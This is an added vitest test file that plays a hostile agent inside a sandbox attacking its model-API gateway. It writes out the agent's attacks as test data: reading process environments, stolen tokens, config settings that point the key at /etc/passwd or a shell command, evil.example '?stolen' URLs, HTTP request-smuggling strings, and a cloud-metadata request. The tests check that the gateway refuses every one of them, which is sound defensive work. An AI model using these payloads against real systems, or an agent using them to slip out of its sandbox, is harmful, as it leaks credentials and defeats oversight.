@@ -1,0 +1,352 @@
+import { existsSync, readdirSync, readFileSync, rmSync } from 'node:fs';
+import { createServer, type RequestListener, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
+import { secretForms } from '../../../src/lib/secrets/encodings.ts';
+import { openHalo, type TestHalo } from '../../support/halo/halo.ts';
+import { startModelServer, type ModelServer } from '../../support/model/model-server.ts';
+import { makeRepository, type TestRepository } from '../../support/repository/repository.ts';
+
+/** Attacks by an agent on its only way out, each by a whole run: the program in the sandbox does what `plan` says. */
+
+const CANARY = 'sk-canary-K7+q/0123456789"abcdef';
+const ATTACKER = readFileSync(new URL('gateway-attacker.mjs', import.meta.url), 'utf8');
+
+let halo: TestHalo;
+const repositories: TestRepository[] = [];
+const servers: { close(): unknown }[] = [];
+
+beforeAll(async () => {
+  process.env.HALO_TEST_CANARY = CANARY;
+  halo = await openHalo({ concurrency: 2 });
+});
+afterAll(async () => {
+  delete process.env.HALO_TEST_CANARY;
+  await halo.close();
+});
+afterEach(async () => {
+  for (const each of repositories.splice(0)) each.remove();
+  await Promise.all(servers.splice(0).map((server) => server.close()));
+});
+
+interface Step {
+  path?: string;
+  headers?: string[];
+  body?: unknown;
+  token?: string;
+  raw?: string;
+  look?: true;
+  list?: string;
+  flood?: true;
+}
+
+interface Attack {
+  api?: 'openai' | 'anthropic';
+  files?: Record<string, string>;
+  settings?: string[];
+}
+
+/** What the agent got to see, step by step. */
+async function attack(plan: Step[], upstream: string, { api = 'openai', files = {}, settings = [] }: Attack = {}) {
+  const repository = makeRepository({ 'attacker.mjs': ATTACKER, 'plan.json': JSON.stringify(plan), ...files });
+  repositories.push(repository);
+  const state = await halo.run(
+    repository.root,
+    [{ id: 'A' }],
+    [
+      'agent=command',
+      'agents.command.run=node attacker.mjs',
+      `agents.command.model=${api}`,
+      `model.base_url=${upstream}`,
+      'model.key_env=HALO_TEST_CANARY',
+      'model.name=m',
+      'gates=["true"]',
+      // What the attacker reads of /proc holds NUL characters.
+      'land.hidden_characters=report',
+      'retry.attempts=1',
+      ...settings,
+    ],
+  );
+  expect(state).toMatchObject({ stopReason: 'SUCCESS' });
+  const answers = JSON.parse(repository.git('show', `halo/${state.runId}:answers.json`)) as string[];
+  expect(answers).toHaveLength(plan.length);
+  return { state, answers };
+}
+
+async function model(): Promise<ModelServer> {
+  const server = await startModelServer({ turns: Array.from({ length: 50 }, () => ({ say: 'hello' })) });
+  servers.push(server);
+  return server;
+}
+
+async function upstream(listener: RequestListener): Promise<string> {
+  const server: Server = createServer(listener);
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  servers.push({
+    close: () => {
+      server.closeAllConnections();
+      server.close();
+    },
+  });
+  return `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`;
+}
+
+const ask = (more: object = {}): Step => ({ path: '/v1/responses', body: { model: 'm', input: [], ...more } });
+const statusOf = (answer: string) => Number(/^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1] ?? 0);
+
+function expectNoCanary(text: string): void {
+  expect(secretForms(CANARY).filter((form) => text.includes(form))).toEqual([]);
+}
+
+/** Files of halo's home that hold the canary in any encoding. */
+function leaks(dir = halo.home): string[] {
+  return readdirSync(dir, { recursive: true, withFileTypes: true })
+    .filter((entry) => entry.isFile())
+    .map((entry) => join(entry.parentPath, entry.name))
+    .filter((path) => {
+      const text = readFileSync(path, 'latin1');
+      return secretForms(CANARY).some((form) => text.includes(form));
+    });
+}
+
+describe('attack 1, incident environ: the provider’s key', () => {
+  it('is in no process, file or variable of the sandbox, and in nothing that is kept', async () => {
+    const server = await model();
+    const { answers } = await attack([ask(), { look: true }], server.url, { settings: ['model.mode=record'] });
+    expect(server.requests[0]?.headers.authorization).toBe(`Bearer ${CANARY}`);
+    for (const answer of answers) expectNoCanary(answer);
+    await vi.waitFor(() => expect(leaks()).toEqual([]));
+  });
+});
+
+describe('attack 2: the way of another run', () => {
+  it('is not there: a sandbox has one socket in a folder that it cannot list, and that is gone with the attempt', async () => {
+    const server = await model();
+    const plan: Step[] = [{ list: '/run/halo' }, ask()];
+    const both = await Promise.all([attack(plan, server.url), attack(plan, server.url)]);
+    for (const { answers } of both) {
+      expect(answers[0]).toBe('EACCES');
+      expect(statusOf(answers[1] ?? '')).toBe(200);
+    }
+    const sockets = join(halo.home, 'sockets');
+    await expect.poll(() => (existsSync(sockets) ? readdirSync(sockets) : [])).toEqual([]);
+  });
+});
+
+describe('attack 2: the token of another run', () => {
+  it('opens nothing: each attempt has one of its own, which only its own gateway takes', async () => {
+    const server = await model();
+    const mine = await attack([{ look: true }, ask()], server.url);
+    const token = /halo-[\w-]{32}/.exec(mine.answers[0] ?? '')?.[0] ?? '';
+    expect(token).not.toBe('');
+    const stolen = await attack([{ ...ask(), token }, { ...ask(), token: '' }, ask()], server.url);
+    expect([...mine.answers.slice(1), ...stolen.answers].map(statusOf)).toEqual([200, 401, 401, 200]);
+    expect(server.requests).toHaveLength(2);
+  });
+});
+
+describe('attack 3, incident repository-settings: a repository that sends the key elsewhere', () => {
+  it.each([
+    ['the address', (url: string) => `[model]\nbase_url = "${url}"`],
+    ['another variable of the worker', () => '[model]\nkey_env = "HOME"'],
+    ['a file of the worker', () => '[model]\nkey_file = "/etc/passwd"'],
+    ['a command on the worker', () => '[model]\nkey_command = "touch /tmp/halo-was-here"'],
+    ['the address, in a profile', (url: string) => `[profiles.p.model]\nbase_url = "${url}"`],
+  ])('is refused when it names %s in its configuration', async (_what, toml) => {
+    const evil = await model();
+    const repository = makeRepository({ 'halo.toml': `gates = ["true"]\n${toml(evil.url)}\n` });
+    repositories.push(repository);
+    const request = { prd: PRD, repos: [repository.root], profile: undefined, allowDirty: false };
+    const profile = toml('').includes('profiles') ? 'p' : undefined;
+    await expect(halo.operations.submit({ ...request, profile, set: [] })).rejects.toMatchObject({
+      code: 'CONFIG_INVALID',
+      message: expect.stringContaining('may not choose where a key comes from or goes to') as string,
+    });
+    expect(evil.requests).toEqual([]);
+    expect(existsSync('/tmp/halo-was-here')).toBe(false);
+  });
+});
+
+const PRD = {
+  path: '/tmp/prd.json',
+  bytes: new TextEncoder().encode(
+    JSON.stringify({
+      project: 'T',
+      description: '',
+      userStories: [{ id: 'A', title: 'A', description: '', acceptanceCriteria: ['x'], priority: 1, passes: false }],
+    }),
+  ),
+};
+
+describe('attack 4, incident files-api: a key of the attacker’s', () => {
+  it('is dropped in every spelling, and what it would be good for is not there', async () => {
+    const server = await model();
+    const names = ['x-api-key', 'X_API_KEY', 'x.api.key', 'Authorization', 'Api-Key', 'Cookie', 'OpenAI-Organization'];
+    const headers = names.map((name) => `${name}: Bearer sk-of-the-attacker`);
+    const paths = [
+      '/v1/files',
+      '/v1/uploads',
+      '/v1/batches',
+      '/v1/models',
+      '/v1/vector_stores',
+      '/v1/fine_tuning/jobs',
+    ];
+    const { answers } = await attack(
+      [{ ...ask(), headers }, ...paths.map((path) => ({ path, headers, body: {} }))],
+      server.url,
+    );
+    expect(answers.map(statusOf)).toEqual([200, ...paths.map(() => 404)]);
+    expect(server.requests).toHaveLength(1);
+    expect(JSON.stringify(server.requests)).not.toContain('sk-of-the-attacker');
+  });
+
+  it('is dropped on the way to Anthropic, too', async () => {
+    const server = await model();
+    const headers = ['x-api-key: sk-of-the-attacker', 'anthropic-beta: files-api-2025-04-14'];
+    const body = { model: 'm', max_tokens: 1, messages: [] };
+    const { answers } = await attack(
+      [
+        { path: '/v1/messages?beta=true', headers, body },
+        { path: '/v1/files', headers, body: {} },
+        { path: '/v1/messages/batches', headers, body: { requests: [] } },
+      ],
+      server.url,
+      { api: 'anthropic' },
+    );
+    expect(answers.map(statusOf)).toEqual([200, 404, 404]);
+    expect(server.requests.map(({ headers: sent }) => sent['x-api-key'])).toEqual([CANARY]);
+    expect(JSON.stringify(server.requests)).not.toMatch(/of-the-attacker|files-api/);
+  });
+});
+
+describe('attack 5: the provider as a way out', () => {
+  it('never hears of tools of its own, of URLs, of stored things or of models that were not agreed on', async () => {
+    const server = await model();
+    const part = (one: object) => ({ input: [{ role: 'user', content: [one] }] });
+    const bodies: object[] = [
+      ...['web_search', 'web_search_preview', 'code_interpreter', 'mcp', 'file_search', 'image_generation'].map(
+        (type) => ({
+          tools: [{ type, server_url: 'https://evil.example' }],
+        }),
+      ),
+      { tools: [{ type: 'computer_use_preview' }] },
+      part({ type: 'input_image', image_url: 'https://evil.example/?stolen' }),
+      part({ type: 'input_file', file_url: 'https://evil.example/?stolen' }),
+      part({ type: 'input_file', file_id: 'file-of-the-attacker' }),
+      { previous_response_id: 'resp_of_the_attacker' },
+      { background: true },
+      { prompt: { id: 'pmpt_of_the_attacker' } },
+      { model: 'most-expensive' },
+    ];
+    const twice = '{"model":"m","input":[],"tools":[],"tools":[{"type":"web_search"}]}';
+    const { answers } = await attack(
+      [...bodies.map((body) => ask(body)), { path: '/v1/responses', body: twice }, ask({ store: true })],
+      server.url,
+    );
+    expect(answers.map(statusOf)).toEqual([...bodies.map(() => 400), 400, 200]);
+    expect(server.requests.map(({ body }) => JSON.parse(body) as unknown)).toEqual([
+      { model: 'm', input: [], store: false },
+    ]);
+  });
+
+  it('nor does Anthropic', async () => {
+    const server = await model();
+    const ask = (more: object): Step => ({
+      path: '/v1/messages',
+      body: { model: 'm', max_tokens: 1, messages: [], ...more },
+    });
+    const source = (type: string, more: object) => ({
+      messages: [{ role: 'user', content: [{ type, source: more }] }],
+    });
+    const bodies = [
+      ...['web_search_20250305', 'web_fetch_20250910', 'code_execution_20250825', 'computer_20250124'].map((type) => ({
+        tools: [{ type, name: 'x' }],
+      })),
+      { mcp_servers: [{ type: 'url', url: 'https://evil.example', name: 'x' }] },
+      { container: 'container_of_the_attacker' },
+      source('image', { type: 'url', url: 'https://evil.example/?stolen' }),
+      source('document', { type: 'url', url: 'https://evil.example/?stolen' }),
+      source('document', { type: 'file', file_id: 'file_of_the_attacker' }),
+    ];
+    const { answers } = await attack(bodies.map(ask), server.url, { api: 'anthropic' });
+    expect(answers.map(statusOf)).toEqual(bodies.map(() => 400));
+    expect(server.requests).toEqual([]);
+  });
+});
+
+describe('attack 6: bytes that two readers read in two ways', () => {
+  it('reach no provider', async () => {
+    const server = await model();
+    const body = '{"model":"m","input":[]}';
+    const chunked = `18\r\n${body}\r\n0\r\n\r\n`;
+    const line = 'POST /v1/responses HTTP/1.1\r\nHost: x\r\n';
+    const whole = (target: string) => `POST ${target} HTTP/1.1\r\nHost: x\r\nContent-Length: 24\r\n\r\n${body}`;
+    const plan = [
+      `${line}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n${chunked}`,
+      `${line}Transfer-Encoding: chunked\r\nContent-Length: 24\r\n\r\n${chunked}`,
+      `${line}Transfer-Encoding: xchunked\r\n\r\n${chunked}`,
+      `${line}Content-Length: 24\r\nContent-Length: 25\r\n\r\n${body}`,
+      `${line}Host: y\r\nContent-Length: 24\r\n\r\n${body}`,
+      ...['http://evil.example/v1/responses', '//evil.example/v1/responses', '/v1/%72esponses', '/v1/responses?x'].map(
+        whole,
+      ),
+      'TRACE /v1/responses HTTP/1.1\r\nHost: x\r\n\r\n',
+      `GET /v1/responses HTTP/1.1\r\nHost: x\r\nContent-Length: 24\r\n\r\n${body}`,
+      'CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: x\r\n\r\n',
+      'GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: x\r\n\r\n',
+    ].map((raw) => ({ raw }));
+    const { answers } = await attack(plan, server.url);
+    for (const [index, answer] of answers.entries())
+      expect([plan[index]?.raw, statusOf(answer)]).toEqual([
+        plan[index]?.raw,
+        expect.toSatisfy((s: number) => s < 200 || s >= 400),
+      ]);
+    expect(server.requests).toEqual([]);
+  });
+});
+
+describe('attack 7: a provider that repeats the key', () => {
+  it('is not passed on: not in errors, redirects, headers or streams, in no encoding', async () => {
+    let count = 0;
+    const url = await upstream((req, res) => {
+      const said = req.headers.authorization ?? '';
+      count += 1;
+      if (count === 1) return void res.writeHead(401, { 'www-authenticate': said }).end(`wrong key: ${said}`);
+      if (count === 2) return void res.writeHead(307, { location: `http://127.0.0.1:1/?${said}` }).end();
+      if (count === 3)
+        return void res.writeHead(400, { 'set-cookie': said, 'x-request-id': said }).end(JSON.stringify({ said }));
+      res.writeHead(200, { 'content-type': 'text/event-stream', 'x-ratelimit-echo': said });
+      const encoded = [said, Buffer.from(said).toString('base64'), Buffer.from(`x${said}`).toString('base64url')];
+      const all = `data: ${encoded.join(' ')} ${encodeURIComponent(said)} ${Buffer.from(said).toString('hex')}\n\n`;
+      const parts = all.match(/[\s\S]{1,7}/g) ?? [];
+      const next = () => {
+        const part = parts.shift();
+        if (part === undefined) return void res.end();
+        res.write(part, () => setImmediate(next));
+      };
+      next();
+    });
+    const { answers } = await attack([ask(), ask(), ask(), ask({ stream: true })], url, {
+      settings: ['model.mode=record'],
+    });
+    expect(answers.map(statusOf)).toEqual([401, 502, 400, 200]);
+    for (const answer of answers) expectNoCanary(answer);
+    await vi.waitFor(() => expect(leaks()).toEqual([]));
+  });
+});
+
+describe('attack 9: a flood', () => {
+  it('takes neither the worker’s memory nor the way of another run', async () => {
+    const server = await model();
+    const before = process.memoryUsage().rss;
+    const flooding = attack([{ flood: true }], server.url);
+    const other = await attack([ask(), ask(), ask()], server.url);
+    expect(other.answers.map(statusOf)).toEqual([200, 200, 200]);
+    await flooding;
+    expect(process.memoryUsage().rss - before).toBeLessThan(600 * 1024 * 1024);
+    expect(server.requests).toHaveLength(3);
+  });
+});
+
+afterAll(() => rmSync('/tmp/halo-was-here', { force: true }));
